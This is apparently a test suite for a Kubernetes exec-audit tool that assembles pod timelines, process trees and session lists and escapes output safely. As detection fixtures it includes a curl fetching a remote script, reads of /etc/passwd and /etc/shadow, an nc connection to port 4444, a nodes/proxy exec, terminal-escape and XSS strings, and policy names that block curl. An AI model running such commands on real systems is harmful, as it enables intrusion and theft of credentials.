import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { sessionId } from '../../src/audit/session.ts';
import { silentLogger } from '../../src/observe/log.ts';
import { createMetrics } from '../../src/observe/metrics.ts';
import { runtimeEventFromLine } from '../../src/runtime/json-lines.ts';
import { RuntimeEventWriter } from '../../src/runtime/writer.ts';
import type { Database } from '../../src/store/database.ts';
import type { Timeline, TimelineEntry } from '../../src/timeline/assemble.ts';
import { formatTimeline, mdCode, shellJoin, visible } from '../../src/timeline/format.ts';
import { buildProcessTree } from '../../src/timeline/process-tree.ts';
import { decodeCursor, findSession, listSessions, loadTimeline } from '../../src/timeline/queries.ts';
import type { RuntimeEventRecord } from '../../src/timeline/records.ts';
import { runProcessor } from '../support/cli.ts';
import { backends, createTestDatabaseTarget, preferredBackend, skipReason, type TestDatabaseTarget } from '../support/databases.ts';
import { scenarioWriters } from '../correlate/support.ts';
import { ESCAPES, writeScenario, XSS, type Scenario } from './scenario.ts';

function processEvent(name: string, time: string, hostPid: number, hostPpid: number, extra: Partial<RuntimeEventRecord> = {}): RuntimeEventRecord {
  return {
    eventKey: name, time, cluster: '', kind: 'log', hostName: 'node-1', namespace: 'shop', pod: 'web-0', container: 'web',
    processName: name, parentProcessName: null, pid: null, ppid: null, hostPid, hostPpid, uid: 0, cwd: null, tty: null, execId: null,
    type: 'ContainerLog', operation: 'Process', resource: name, data: null, result: 'Passed', policyName: null, severity: null, tags: null,
    message: null, action: null, enforcer: null, links: [], ...extra,
  };
}

/** A tree as nested names, for readable assertions. */
type Shape = [string, Shape[]];
const shapeOf = (nodes: ReturnType<typeof buildProcessTree>): Shape[] => nodes.map((n) => [n.event.eventKey, shapeOf(n.children)]);

describe('process tree', () => {
  it('nests commands by host parent PID, at any depth, and keeps siblings in time order', () => {
    const tree = buildProcessTree([
      processEvent('grep', '2025-01-01T00:00:05.000530Z', 12, 10),
      processEvent('bash', '2025-01-01T00:00:00.000001Z', 1, 900),
      processEvent('cat', '2025-01-01T00:00:05.000520Z', 11, 10),
      processEvent('sh', '2025-01-01T00:00:05.000001Z', 10, 1),
    ]);
    assert.deepEqual(shapeOf(tree), [['bash', [['sh', [['cat', []], ['grep', []]]]]]]);
  });

  it('draws an exec() in place as a child of the image it replaced, and a reused PID apart', () => {
    const tree = buildProcessTree([
      processEvent('sh -c exec bash', '2025-01-01T00:00:00.000001Z', 100, 50, { execId: '7' }),
      processEvent('bash', '2025-01-01T00:00:00.000900Z', 100, 50, { execId: '7' }),
      processEvent('ls', '2025-01-01T00:00:01.000000Z', 101, 100, { execId: '7' }),
      // bash, re-parented to the shim (unknown here) once runc exited, exec()s python.
      processEvent('python', '2025-01-01T00:00:02.000000Z', 100, 60, { execId: '7' }),
      // PID 100 reused later by another exec (another ExecID): not under the old sh/bash.
      processEvent('other', '2025-01-01T00:10:00.000000Z', 100, 77, { execId: '9' }),
    ]);
    assert.deepEqual(shapeOf(tree), [['sh -c exec bash', [['bash', [['ls', []], ['python', []]]]]], ['other', []]]);
  });

  it('takes the LATEST process with the parent PID that started before the child (PIDs are reused)', () => {
    const tree = buildProcessTree([
      processEvent('first', '2025-01-01T00:00:00.000000Z', 10, 1, { execId: '1' }),
      processEvent('second', '2025-01-01T00:05:00.000000Z', 10, 2, { execId: '2' }),
      processEvent('child', '2025-01-01T00:05:01.000000Z', 11, 10, { execId: '2' }),
    ]);
    assert.deepEqual(shapeOf(tree), [['first', []], ['second', [['child', []]]]]);
  });

  it('keeps PIDs of different nodes apart and hangs file events under the process that made them', () => {
    const tree = buildProcessTree([
      processEvent('bash', '2025-01-01T00:00:00.000000Z', 10, 1),
      processEvent('elsewhere', '2025-01-01T00:00:01.000000Z', 11, 10, { hostName: 'node-2' }),
      processEvent('read', '2025-01-01T00:00:02.000000Z', 10, 1, { operation: 'File', resource: '/etc/passwd' }),
    ]);
    assert.deepEqual(shapeOf(tree), [['bash', [['read', []]]], ['elsewhere', []]]);
  });
});

describe('safe output', () => {
  it('shows terminal escapes and bidi overrides instead of sending them to the terminal', () => {
    assert.equal(visible(`a${ESCAPES}b`), 'a\\x1b[2J\\x1b]0;pwned\\x07b');
    assert.equal(visible('evil\u202Etxt.exe\nnext'), 'evil\\u202etxt.exe\\nnext');
  });

  it('quotes argv as a shell would need it', () => {
    assert.equal(shellJoin(['sh', '-c', "echo 'hi' | wc"]), `sh -c 'echo '\\''hi'\\'' | wc'`);
    assert.equal(shellJoin(['ls', '-la', '/tmp']), 'ls -la /tmp');
  });

  it('puts any text in a Markdown code span that neither ends early nor breaks a table', () => {
    assert.equal(mdCode('a | b'), '`a \\| b`');
    assert.equal(mdCode('x `y` z'), '``x `y` z``');
    assert.equal(mdCode('`edge'), '`` `edge ``');
  });
});

/** The entries as [kind, user or '-', subject, depth] rows, readable in a failure diff. */
function rowsOf(timeline: Timeline): [string, string, string, number][] {
  const users = new Map(timeline.sessions.map((s) => [s.id, s.user]));
  return timeline.entries.map((e: TimelineEntry) =>
    'event' in e
      ? [e.kind, e.sessionId ? users.get(e.sessionId)! : '-', e.event.resource ?? '', e.depth]
      : [e.kind, users.get(e.sessionId)!, '', 0],
  );
}

const expectedRows: [string, string, string, number][] = [
  ['session-start', 'alice', '', 0],
  ['process', 'alice', '/bin/bash', 0],
  ['process', 'alice', '/bin/sh -c cat /etc/passwd | grep root', 1],
  ['process', 'alice', '/bin/cat /etc/passwd', 2],
  ['process', 'alice', '/bin/grep root', 2],
  ['alert', 'alice', '/usr/bin/curl -s http://198.51.100.9/x.sh', 1],
  ['process', 'alice', `/bin/sh -c echo '${XSS}' | tee /tmp/x`, 1],
  ['process', 'alice', `/usr/bin/printf ${ESCAPES}`, 1],
  ['denied', 'bob', '', 0],
  ['session-start', 'carol', '', 0],
  ['process', 'carol', '/bin/sh -c cat /etc/hostname', 0],
  ['process', 'carol', '/bin/cat /etc/hostname', 1],
  ['session-end', 'carol', '', 0],
  ['alert', '-', '/etc/shadow', 0],
  ['session-end', 'alice', '', 0],
];

for (const backend of backends) {
  describe(`timeline of a pod on ${backend}`, { skip: skipReason(backend) }, () => {
    let target: TestDatabaseTarget;
    let db: Database | undefined;
    let scenario: Scenario;
    let timeline: Timeline;
    before(async () => {
      target = await createTestDatabaseTarget(backend);
      db = await target.open();
      scenario = await writeScenario(db);
      timeline = await loadTimeline(db, { namespace: 'shop', pod: 'web-0', ...scenario.window });
    });
    after(async () => {
      await db?.close();
      await target?.destroy();
    });
    /** The CLI needs the database to itself on PGlite (one process per data directory). */
    const releaseDatabase = async () => {
      await db?.close();
      db = undefined;
    };

    it('merges sessions, the denied attempt, processes and alerts in microsecond order, nothing from elsewhere', () => {
      assert.deepEqual(rowsOf(timeline), expectedRows);
      const times = timeline.entries.map((e) => e.time);
      assert.deepEqual(times, [...times].sort(), 'times ascend');
      assert.ok(times.every((t) => /\.\d{6}Z$/.test(t)), 'microseconds kept');
      assert.equal(timeline.entries[3]!.time, scenario.at(5, 520));
      assert.equal(timeline.entries[4]!.time, scenario.at(5, 530));
      assert.deepEqual(timeline.summary, { sessions: 2, interactive: 1, denied: 1, processes: 8, alerts: 2, blocked: 1 });
      assert.deepEqual(timeline.sessions.map((s) => s.user), ['alice', 'bob', 'carol'], 'dave is in staging/web-0');
    });

    it('describes who, from where and with what tool, and why bob was refused', () => {
      const [alice, bob] = timeline.sessions;
      assert.equal(alice!.sourceIp, '192.0.2.10');
      assert.equal(alice!.tool, 'kubectl');
      assert.equal(alice!.clientVersion, 'v1.34.1');
      assert.equal(alice!.tty, true);
      assert.deepEqual(alice!.command, ['bash']);
      assert.equal(alice!.endedAt, scenario.at(300, 250002));
      assert.equal(alice!.blockCount, 1);
      assert.equal(bob!.allowed, false);
      assert.equal(bob!.responseCode, 403);
      assert.match(bob!.reason!, /cannot create resource "pods\/exec"/);
    });

    it('narrows to the window: only what happened between from and to', async () => {
      const narrow = await loadTimeline(db!, { namespace: 'shop', pod: 'web-0', from: scenario.at(5), to: scenario.at(11) });
      assert.deepEqual(
        narrow.entries.map((e) => ('event' in e ? e.event.resource : e.kind)),
        ['/bin/sh -c cat /etc/passwd | grep root', '/bin/cat /etc/passwd', '/bin/grep root', '/usr/bin/curl -s http://198.51.100.9/x.sh'],
      );
      assert.deepEqual(narrow.sessions.map((s) => s.user), ['alice'], 'alice was inside the window even though she started before it');
    });

    it('looks in every cluster unless told one, and in only that one when told', async () => {
      const line = JSON.stringify({
        UpdatedTime: scenario.at(250, 7), ClusterName: 'prod', HostName: 'n9', NamespaceName: 'shop', PodName: 'web-0', ContainerName: 'web',
        HostPID: 77, HostPPID: 1, PID: 7, PPID: 1, ProcessName: '/usr/bin/nc', Operation: 'Network', Resource: 'remoteip=203.0.113.5 port=4444',
        Type: 'MatchedPolicy', PolicyName: 'no-egress', Severity: '9', Action: 'Block', Result: 'Permission denied',
      });
      const outcome = runtimeEventFromLine(line, { cluster: 'prod' });
      assert.equal(outcome.kind, 'event');
      if (outcome.kind !== 'event') return;
      await new RuntimeEventWriter(db!, { metrics: createMetrics(), logger: silentLogger }).write([outcome.event]);
      const alertsOf = (t: Timeline) => t.entries.filter((e) => e.kind === 'alert').map((e) => ('event' in e ? `${e.event.cluster}:${e.event.policyName}` : ''));
      const everywhere = await loadTimeline(db!, { namespace: 'shop', pod: 'web-0', ...scenario.window });
      assert.deepEqual(alertsOf(everywhere), [':block-curl-in-shop', ':audit-shadow-reads', 'prod:no-egress']);
      const prod = await loadTimeline(db!, { cluster: 'prod', namespace: 'shop', pod: 'web-0', ...scenario.window });
      assert.deepEqual(alertsOf(prod), ['prod:no-egress']);
      assert.deepEqual(prod.sessions, [], 'the sessions are in the unnamed cluster');
      await db!.query(`DELETE FROM runtime_events WHERE cluster = 'prod'`);
    });

    it('includes a nodes/proxy exec whose kubelet path names the pod, described as node → pod', async () => {
      const event = {
        kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: 'n0de-0006', stage: 'ResponseComplete',
        requestURI: '/api/v1/nodes/ip-10-0-0-1/proxy/exec/shop/web-0/web?command=sh&command=-c&command=id&output=1&error=1', verb: 'get',
        user: { username: 'mallory' }, sourceIPs: ['203.0.113.66'], userAgent: 'curl/8.5.0',
        objectRef: { resource: 'nodes', name: 'ip-10-0-0-1', apiVersion: 'v1', subresource: 'proxy' },
        responseStatus: { code: 101 }, requestReceivedTimestamp: scenario.at(240, 11), stageTimestamp: scenario.at(241, 11),
      };
      await scenarioWriters(db!, '').audit([JSON.stringify(event)]);
      const row = { id: sessionId('', 'n0de-0006') };
      try {
        const withNode = await loadTimeline(db!, { namespace: 'shop', pod: 'web-0', ...scenario.window });
        const mallory = withNode.sessions.find((s) => s.user === 'mallory')!;
        assert.deepEqual([mallory.targetType, mallory.node, mallory.namespace, mallory.pod, mallory.container], ['node', 'ip-10-0-0-1', 'shop', 'web-0', 'web']);
        assert.match(formatTimeline(withNode, 'text'), /SESSION\s+mallory opened node exec \(nodes\/proxy\) into node ip-10-0-0-1 → shop\/web-0 container web from 203\.0\.113\.66/);
        assert.deepEqual((await listSessions(db!, { limit: 10, pod: 'web-0', namespace: 'shop' })).items.map((s) => s.user), ['mallory', 'carol', 'bob', 'alice']);
      } finally {
        await db!.query(`DELETE FROM change_events WHERE id = $1`, [row.id]);
      }
    });

    it('gives one session with its processes and alerts in time order, as a tree', async () => {
      const detail = (await findSession(db!, scenario.ids.alice))!;
      assert.deepEqual(detail.activity.map((e) => e.processName), ['/bin/bash', '/bin/sh', '/bin/cat', '/bin/grep', '/usr/bin/curl', '/bin/sh', '/usr/bin/printf']);
      const names = (nodes: typeof detail.processTree): Shape[] => nodes.map((n) => [detail.activity[n.event]!.processName!, names(n.children)]);
      assert.deepEqual(names(detail.processTree), [
        ['/bin/bash', [['/bin/sh', [['/bin/cat', []], ['/bin/grep', []]]], ['/usr/bin/curl', []], ['/bin/sh', []], ['/usr/bin/printf', []]]],
      ]);
      assert.equal(await findSession(db!, 'EXEC::no-such-session'), undefined);
    });

    it('lists sessions newest first, filtered by user and namespace, paging without repeats', async () => {
      assert.deepEqual((await listSessions(db!, { limit: 10 })).items.map((s) => s.user), ['carol', 'bob', 'dave', 'alice']);
      assert.deepEqual((await listSessions(db!, { limit: 10, user: 'alice' })).items.map((s) => s.id), [scenario.ids.alice]);
      assert.deepEqual((await listSessions(db!, { limit: 10, namespace: 'staging' })).items.map((s) => s.user), ['dave']);
      const seen: string[] = [];
      let cursor: string | null | undefined;
      do {
        const page = await listSessions(db!, { limit: 1, cursor: cursor ? decodeCursor(cursor) : undefined });
        seen.push(...page.items.map((s) => s.user));
        cursor = page.nextCursor;
      } while (cursor);
      assert.deepEqual(seen, ['carol', 'bob', 'dave', 'alice']);
    });

    // The queries run on both backends above; the command line once, on the preferred one.
    const commandLine = { skip: backend === preferredBackend ? false : `the command line is tested on ${preferredBackend}` };

    it('prints the timeline from the command line as text, JSON and Markdown', commandLine, async () => {
      await releaseDatabase();
      const args = ['timeline', '-namespace', 'shop', '-pod', 'web-0', '-from', scenario.window.from, '-to', scenario.window.to, ...target.flags];
      // One at a time: PGlite serves one process per data directory.
      const text = await runProcessor([...args, '-format', 'text']);
      const json = await runProcessor([...args, '-format', 'json']);
      const markdown = await runProcessor([...args, '-format', 'markdown']);
      for (const result of [text, json, markdown]) assert.equal(result.code, 0, result.stderr);

      // JSON: the same document as the API and loadTimeline.
      assert.deepEqual(JSON.parse(json.stdout), timeline);

      // Text: one line per entry, in order, escapes shown not obeyed, the Block alert marked.
      const lines = text.stdout.trimEnd().split('\n');
      assert.match(lines[0]!, /^Timeline of pod shop\/web-0 from .* to .* \(UTC\)$/);
      assert.equal(lines[1], '2 sessions (1 interactive), 1 denied attempt, 8 processes, 2 alerts (1 Block)');
      const entryLines = lines.slice(3);
      assert.equal(entryLines.length, expectedRows.length);
      assert.match(entryLines[0]!, /SESSION\s+alice opened interactive exec into shop\/web-0 container web from 192\.0\.2\.10 with kubectl v1\.34\.1: bash/);
      assert.match(entryLines[3]!, /PROCESS\s+alice {6}\/bin\/cat \/etc\/passwd$/, 'depth 2 indented');
      assert.match(entryLines[5]!, /ALERT\s+alice {4}\/usr\/bin\/curl .*\[BLOCKED: Block, policy block-curl-in-shop, severity 8: curl is not allowed in shop pods; Permission denied\]/);
      assert.match(entryLines[8]!, /DENIED\s+bob tried interactive exec into shop\/web-0 .* — denied 403: pods "web-0" is forbidden/);
      assert.ok(!text.stdout.includes('\u001b') && !text.stdout.includes('\u0007'), 'no raw escape reaches the terminal');
      assert.ok(text.stdout.includes('/usr/bin/printf \\x1b[2J\\x1b]0;pwned\\x07'));

      // Markdown: tables ready to paste, pipes escaped inside code, the Block alert in bold.
      const md = markdown.stdout;
      assert.match(md, /^### Exec timeline: pod `shop\/web-0`$/m);
      assert.match(md, /^\| Time \(UTC\) \| Event \| User \| Detail \|$/m);
      assert.match(md, /\| \*\*ALERT: Block\*\* \| alice \| &emsp;↳ `\/usr\/bin\/curl -s http:\/\/198\.51\.100\.9\/x\.sh` — Block, policy block-curl-in-shop/);
      assert.match(md, /&emsp;↳ `\/bin\/sh -c cat \/etc\/passwd \\\| grep root`/);
      assert.match(md, /\| \*\*denied attempt\*\* \| bob \|/);
      const timelineRows = md.split('#### What happened, in order')[1]!.split('\n').filter((l) => l.startsWith('| 2'));
      assert.equal(timelineRows.length, expectedRows.length);
      for (const row of md.split('\n').filter((l) => l.startsWith('|'))) {
        const cells = row.replace(/\\\|/g, '').split('|').length;
        assert.ok(cells === 6 || cells === 4 || cells === 13, `every table row keeps its columns: ${row}`);
      }
    });

    it('defaults the window to the last hour and lists sessions with -user and -since', commandLine, async () => {
      await releaseDatabase();
      const lastHour = await runProcessor(['timeline', '-namespace', 'shop', '-pod', 'web-0', '-format', 'json', ...target.flags]);
      const sessions = await runProcessor(['sessions', '-user', 'alice', '-since', '24h', ...target.flags]);
      const sessionsJson = await runProcessor(['sessions', '-since', '24h', '-format', 'json', ...target.flags]);
      assert.equal(lastHour.code, 0, lastHour.stderr);
      assert.equal((JSON.parse(lastHour.stdout) as Timeline).entries.length, expectedRows.length, 'the scenario is 30 minutes old');
      assert.equal(sessions.code, 0, sessions.stderr);
      const [header, ...rows] = sessions.stdout.trimEnd().split('\n');
      assert.match(header!, /^STARTED \(UTC\)\s+USER\s+ACCESS\s+TARGET\s+FROM\s+TOOL\s+OUTCOME\s+PROCS\s+ALERTS\s+ID\s+COMMAND$/);
      assert.equal(rows.length, 1);
      assert.match(rows[0]!, /alice\s+interactive exec\s+shop\/web-0 container web\s+192\.0\.2\.10\s+kubectl v1\.34\.1\s+ended after 5m 0\.2s\s+6\s+1 \(1 Block\)\s+EXEC::a11ce-0001\s+bash$/);
      assert.deepEqual((JSON.parse(sessionsJson.stdout) as { sessions: { user: string }[] }).sessions.map((s) => s.user), ['carol', 'bob', 'dave', 'alice']);
    });
  });
}

describe('timeline and sessions command lines', () => {
  it('refuse incomplete or contradictory windows with exit code 2 and say what to give', async () => {
    const [noPod, both, badTime, backwards] = await Promise.all([
      runProcessor(['timeline', '-namespace', 'shop']),
      runProcessor(['timeline', '-namespace', 'shop', '-pod', 'web-0', '-since', '1h', '-from', '2h']),
      runProcessor(['timeline', '-namespace', 'shop', '-pod', 'web-0', '-from', 'yesterday']),
      runProcessor(['timeline', '-namespace', 'shop', '-pod', 'web-0', '-from', '2025-01-02T00:00:00Z', '-to', '2025-01-01T00:00:00Z']),
    ]);
    for (const result of [noPod, both, badTime, backwards]) assert.equal(result.code, 2, result.stderr);
    assert.match(noPod.stderr, /^audit-processor timeline: give the pod: -namespace NS -pod POD$/m);
    assert.match(both.stderr, /give -since or -from, not both/);
    assert.match(badTime.stderr, /flag -from: not a time: use an RFC 3339 time/);
    assert.match(backwards.stderr, /the window ends \(2025-01-01T00:00:00\.000000Z\) before it starts/);
    assert.match(noPod.stderr, /Usage: audit-processor timeline \[flags\]/);
  });

  it('list their flags for -h, and the main usage names both subcommands', async () => {
    const [timelineHelp, main] = await Promise.all([runProcessor(['timeline', '-h']), runProcessor(['-h'])]);
    assert.equal(timelineHelp.code, 0);
    for (const name of ['namespace', 'pod', 'since', 'from', 'to', 'format', 'database-url', 'data-dir']) assert.match(timelineHelp.stdout, new RegExp(`^  -${name}\\b`, 'm'));
    assert.match(main.stdout, /audit-processor timeline -namespace NS -pod POD/);
    assert.match(main.stdout, /audit-processor sessions \[-user U\]/);
  });
});
